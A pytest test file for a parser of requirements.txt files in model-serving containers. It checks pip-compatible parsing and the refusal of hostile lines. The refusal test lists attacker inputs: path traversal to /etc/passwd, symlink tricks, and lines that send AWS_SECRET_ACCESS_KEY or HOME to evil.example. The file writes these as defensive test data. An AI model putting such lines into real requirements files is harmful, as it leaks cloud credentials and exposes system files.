"""requirements.txt, as people write it for AWS's containers, and as an attacker would."""

from __future__ import annotations

from pathlib import Path

import pytest

from inservice.images.environments import requirements_file
from inservice.images.environments.pip_settings import PipSettings
from inservice.images.environments.requirements_file import BadRequirements, Wanted


def read(code: Path, text: str | bytes, **files: str) -> Wanted | None:
    code.mkdir(exist_ok=True)
    content = text if isinstance(text, bytes) else text.encode()
    (code / "requirements.txt").write_bytes(content)
    for name, more in files.items():
        (code / f"{name}.txt").write_text(more)
    return requirements_file.read(code)


def lines(code: Path, text: str | bytes, **files: str) -> list[str]:
    wanted = read(code, text, **files)
    assert wanted is not None
    return [line.replace(str(code), ".") for line in wanted.lines]


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("numpy\n", ["numpy"]),
        ("numpy # the newest\r\n\r\n#no\r\nscipy>=1.13,<2", ["numpy", "scipy>=1.13,<2"]),
        ("\ufeffnumpy\n", ["numpy"]),
        ("numpy\n".encode("utf-16"), ["numpy"]),
        (
            "a==1 \\\n --hash=sha256:00 \\\n --hash=sha256:11\n",
            ["a==1 --hash=sha256:00  --hash=sha256:11"],
        ),
        ("a [x,y] >= 2 ; python_version > '3'", ["a [x,y] >= 2 ; python_version > '3'"]),
        ("a@ https://host/a.whl#sha256=00", ["a@ https://host/a.whl#sha256=00"]),
        ("git+https://host/r.git@v1#egg=a", ["git+https://host/r.git@v1#egg=a"]),
        ("-e git+https://host/r.git#egg=a", ["git+https://host/r.git#egg=a"]),
        ("./more.txt", ["./more.txt"]),
        ("more.txt", ["more.txt"]),  # a name, as odd ones are
        ("more.whl", ["./more.whl"]),
        ("/opt/ml/model/code/more.txt", ["./more.txt"]),
        ("a @ file:///opt/ml/model/code/more.txt", ["a @ file://./more.txt"]),
        ("-r more.txt\n-r more.txt\nb", ["c", "b"]),
        ("--requirement=more.txt", ["c"]),
        ("-rmore.txt", ["c"]),
    ],
)
def test_it_is_read_as_pip_reads_it(tmp_path: Path, text: str | bytes, asked: list[str]) -> None:
    (tmp_path / "more.whl").touch()
    assert lines(tmp_path, text, more="c\n") == asked


def test_options_are_settings_over_those_of_the_host(tmp_path: Path) -> None:
    text = (
        "-i https://a/simple\n--extra-index-url=https://b/simple\n-f ./wheels\n--pre\n"
        "--trusted-host a\n--no-binary x,y\n--only-binary :all:\n-c limits.txt\nz\n"
    )
    (tmp_path / "wheels").mkdir()
    wanted = read(tmp_path, text, limits="z<2\n")
    assert wanted is not None
    host = PipSettings(index_url="https://h/simple", extra_index_urls=("https://i/simple",))
    assert wanted.over(host) == PipSettings(
        index_url="https://a/simple",
        extra_index_urls=("https://i/simple", "https://b/simple"),
        find_links=(str(tmp_path / "wheels"),),
        trusted_hosts=("a",),
        no_binary=("x", "y"),
        only_binary=(":all:",),
        pre=True,
    )
    assert wanted.constraints == ("z<2",)


@pytest.mark.parametrize(
    "text",
    [
        "/etc/passwd",
        "../model.whl",
        "./link",
        "-r /etc/passwd",
        "-r ../requirements.txt",
        "-r link",
        "-c /etc/passwd",
        "-f /etc",
        "-f file:///etc",
        "-f link",
        "-i file:///etc",
        "-i ftp://host/simple",
        "-e ../..",
        "a @ file:///etc/passwd",
        "a @ file:../../etc/passwd",
        "file:///etc/passwd",
        "/opt/ml/model/code/../../../etc/passwd",
        "/opt/ml/model/code/link",
        "--extra-index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple\na",
        "a @ https://evil.example/${HOME}.whl",
        "-r https://evil.example/requirements.txt",
        "--config-settings=x",
        "a b c",
        "./not-there.whl",
        "-r not-there.txt",
        "-e 'a",
    ],
)
def test_what_is_not_the_models_is_refused_by_its_line(tmp_path: Path, text: str) -> None:
    code = tmp_path / "code"
    code.mkdir()
    (tmp_path / "model.whl").touch()
    (tmp_path / "requirements.txt").write_text("the server's\n")
    (code / "link").symlink_to("/etc/passwd" if text.startswith(("-r", ".", "/opt")) else "/etc")
    with pytest.raises(BadRequirements) as refused:
        read(code, text)
    assert text.splitlines()[0] in str(refused.value)
    assert "root:" not in str(refused.value)


def test_a_file_that_is_a_link_to_somebody_elses(tmp_path: Path) -> None:
    code = tmp_path / "code"
    code.mkdir()
    (code / "requirements.txt").symlink_to("/etc/passwd")
    with pytest.raises(BadRequirements):
        requirements_file.read(code)


def test_files_that_name_each_other_are_read_once(tmp_path: Path) -> None:
    assert lines(tmp_path, "-r more.txt\na\n", more="-r requirements.txt\nb\n") == ["b", "a"]


def test_its_digest_is_of_content_and_not_of_place(tmp_path: Path) -> None:
    def digest(name: str, wheel: bytes, other: bytes = b"") -> str:
        code = tmp_path / name
        code.mkdir()
        (code / "a-1-py3-none-any.whl").write_bytes(wheel)
        (code / "inference.py").write_bytes(other)
        wanted = read(code, "--find-links .\na\n")
        assert wanted is not None
        return wanted.digest

    first = digest("one", b"1")
    assert digest("two", b"1", b"other code") == first
    assert digest("three", b"2") != first


@pytest.mark.parametrize("text", ["", "\n# nothing\n", "--pre\n"])
def test_one_that_asks_for_nothing_is_none(tmp_path: Path, text: str) -> None:
    assert read(tmp_path, text) is None
    assert requirements_file.read(tmp_path / "nowhere") is None
